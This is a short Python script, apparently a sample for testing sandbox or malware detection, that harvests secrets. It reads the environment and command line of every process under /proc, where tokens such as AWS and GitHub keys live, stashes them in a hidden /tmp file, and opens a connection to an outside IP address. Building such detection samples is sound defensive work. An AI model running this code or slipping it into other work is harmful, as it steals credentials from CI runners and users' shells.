# Environment harvesting: walks /proc and reads the environment and command line of every
# process it can (tokens such as AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN and NPM_TOKEN live in
# CI runners' and shells' environments), writes what it got to a hidden file and connects to
# an outside address (fails with ENETUNREACH in the sandbox: the attempt is the finding).
import os, socket

dump = []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    for leaf in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{leaf}", "rb") as fh:
                dump.append((pid, leaf, fh.read()))
        except OSError:
            pass
with open("/tmp/.env-cache", "w") as out:
    out.write(repr(dump))
s = socket.socket()
try:
    s.connect(("198.51.100.7", 8443))
except OSError:
    pass
